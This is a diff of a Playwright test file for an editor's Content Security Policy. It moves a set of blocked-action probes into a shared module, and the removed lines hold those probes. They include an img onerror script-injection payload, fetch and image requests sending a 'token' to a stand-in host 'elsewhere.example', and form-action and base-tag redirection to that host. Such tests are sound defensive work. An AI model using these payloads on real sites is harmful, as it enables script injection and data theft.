@@ -2,6 +2,7 @@
 import type { Frame, Page } from '@playwright/test'
 import { siteFont } from '../../src/content/brand/font.generated.ts'
 import { expect, own, test } from './attacked-editor.ts'
+import { attempts as common } from './policy-attempts.ts'
 
 /** Opens an address in a frame of the editor, and waits until its page takes content. */
 async function openFrame(page: Page, address: string) {
@@ -22,6 +23,7 @@ async function openFrame(page: Page, address: string) {
 }
 
 const attempts: Readonly<Record<string, () => unknown>> = {
+  ...common,
   eval: () => {
     // In a task of its own, because the driver may evaluate texts.
     setTimeout(() => {
@@ -30,40 +32,9 @@ const attempts: Readonly<Record<string, () => unknown>> = {
       } catch {}
     })
   },
-  'require-trusted-types-for': () => {
-    try {
-      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="document.title=1">')
-    } catch {}
-  },
-  'trusted-types': () => {
-    try {
-      Object(window).trustedTypes.createPolicy('another', {})
-    } catch {}
-  },
-  'style-src-elem': () => {
-    const style = document.createElement('style')
-    style.textContent = 'body { display: none }'
-    document.head.append(style)
-  },
-  'connect-src': () => fetch('https://elsewhere.example/?token').catch(() => {}),
-  'img-src': () => {
-    new Image().src = 'https://elsewhere.example/?token'
-  },
   'frame-src': () => {
     document.body.append(
       Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }),
-    )
-  },
-  'form-action': () => {
-    const form = Object.assign(document.createElement('form'), {
-      action: 'https://elsewhere.example/',
-    })
-    document.body.append(form)
-    form.submit()
-  },
-  'base-uri': () => {
-    document.head.append(
-      Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }),
     )
   },
 }
